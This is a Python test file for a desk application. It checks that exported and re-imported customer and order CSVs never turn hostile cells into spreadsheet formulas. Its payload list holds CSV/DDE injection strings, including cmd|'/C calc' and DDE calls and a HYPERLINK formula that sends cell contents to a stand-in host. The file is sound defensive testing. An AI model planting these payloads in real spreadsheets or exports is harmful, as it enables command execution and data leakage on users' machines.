"""E34: 500 hostile cells in and out: no cell is a formula anywhere, nothing falls over, and what
comes back is what went out."""

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random

import openpyxl
import pytest

from deskapp.desk import Desk
from deskapp.domain.cells import plain_cell, safe_cell
from deskapp.domain.people import CustomerEdit
from deskapp.domain.problem import Problem
from deskapp.shops.files import read_orders
from deskapp.shops.people import read_people
from deskapp.wiring import open_house

_HEADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://a.example?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "%00=1+1",
    "|calc",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '";=1+1;"',
    "x,=1+1",
    "x;=1+1",
    "x\t=1+1",
    'x"\n=1+1',
    "=\u202e1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://a.example","//a")',
    '=WEBSERVICE("http://a.example")',
    "{=1+1}",
    "=-1",
    "+84912345678",
    "-12.5",
    "00123",
    "1E5",
    "\x00=1+1",
    "\x1b]0;x\x07=1",
    "\ud800=1",
    "=" * 3000,
    "'" * 3000,
    '"' * 999,
    "=1+1\x00",
    "Nguyễn =1",
    "-",
    "=",
    "@",
    "+",
)
_FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠|%]")


def _cells(random: Random) -> list[str]:
    """The known ones, and mixtures of their pieces."""
    made = list(_HEADS)
    signs = "=+-@\t\r\n'\";,|{}()!\u00a0\ufeff\u202e＝%0aÄ中"
    while len(made) < 500:
        made.append("".join(random.choices(signs, k=random.randint(1, 12))) + random.choice(_HEADS))
    return made


@pytest.fixture
def desk(desk_file: str) -> Iterator[Desk]:
    made = open_house(desk_file, create=True)
    yield made
    made.close()


def test_no_cell_of_a_stranger_becomes_a_formula(
    desk: Desk, tmp_path: Path, tell: Callable[[str], None]
) -> None:
    cells = _cells(Random(34))
    for number, cell in enumerate(cells):
        one = desk.customers.create(f"Person {number}", f"p{number}@b.example")
        clean = cell.encode("utf-8", "replace").decode().replace("\0", "")
        desk.customers.edit(one, CustomerEdit(name=clean, must_know=clean, company=clean))
    path = tmp_path / "all.csv"
    assert desk.people_files.write_csv(path) == len(cells)
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    formulas = [cell for row in rows for cell in row if _is_formula(cell)]
    opened = _opened_in_office(path, tmp_path)
    before = [desk.customers.record(one) for one in desk.customers.ids()]
    done = desk.people_files.take(read_people(path).people, path.name)
    after = [desk.customers.record(one) for one in desk.customers.ids()]
    changed = sum(one != other for one, other in zip(before, after, strict=True))
    tell(
        f"{len(cells)} hostile cells three times each out: {len(formulas)} formulas"
        f"{opened}; back in: {done.new} new, {done.updated} updated, {done.unchanged} as before, "
        f"{len(done.faults)} left out, {changed} records changed"
    )
    assert formulas == []
    assert (done.new, done.updated, len(done.faults), changed) == (0, 0, 0, 0)


def test_hostile_files_of_customers_and_orders_are_read_or_refused(
    desk: Desk, tmp_path: Path, tell: Callable[[str], None]
) -> None:
    random, cells = Random(200), _cells(Random(35))
    read = refused = left_out = 0
    for number in range(200):
        some = random.sample(cells, 6)
        lines = [",".join(random.sample(["Name", "Email", "Phone", "Note", "Order", "Total"], 6))]
        for _row in range(random.randint(0, 5)):
            quoted = random.random() < 0.5
            lines.append(",".join(_quoted(cell) if quoted else cell for cell in some))
        path = tmp_path / f"{number}.csv"
        path.write_bytes("\n".join(lines).encode(random.choice(["utf-8", "utf-16"]), "replace"))
        for reader in (_customers, _orders):
            try:
                left_out += reader(desk, path)
                read += 1
            except Problem:
                refused += 1
    tell(f"200 hostile files twice: {read} read, {refused} refused, {left_out} rows left out")
    assert read + refused == 400
    assert desk.upkeep.check() == ()


def test_cells_come_back_as_they_were() -> None:
    for cell in _cells(Random(36)):
        assert plain_cell(safe_cell(cell)) == cell
        assert not _is_formula(safe_cell(cell))


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


def _customers(desk: Desk, path: Path) -> int:
    reading = read_people(path)
    done = desk.people_files.take(reading.people, path.name)
    return len(reading.faults) + len(done.faults)


def _orders(desk: Desk, path: Path) -> int:
    reading = read_orders(path, None, None, None)
    desk.orders.save("Hostile", "file", reading.profile, reading.orders)
    return len(reading.faults)


def _is_formula(cell: str) -> bool:
    """As a spreadsheet takes it, once what it does not show is away; plain numbers are none."""
    bare = cell.lstrip(" \u00a0\u200b\ufeff\u3000")
    return bool(_FORMULA.match(bare)) and not re.fullmatch(r"-?\d+([.,]\d+)?", cell)


def _opened_in_office(path: Path, folder: Path) -> str:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        return " (read as a spreadsheet would; LibreOffice is not installed)"
    command = [office, "--headless", "--convert-to", "xlsx", "--outdir", str(folder), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    book = openpyxl.load_workbook(folder / f"{path.stem}.xlsx")
    found = [
        cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert found == []
    return ", opened in LibreOffice: 0 formulas"
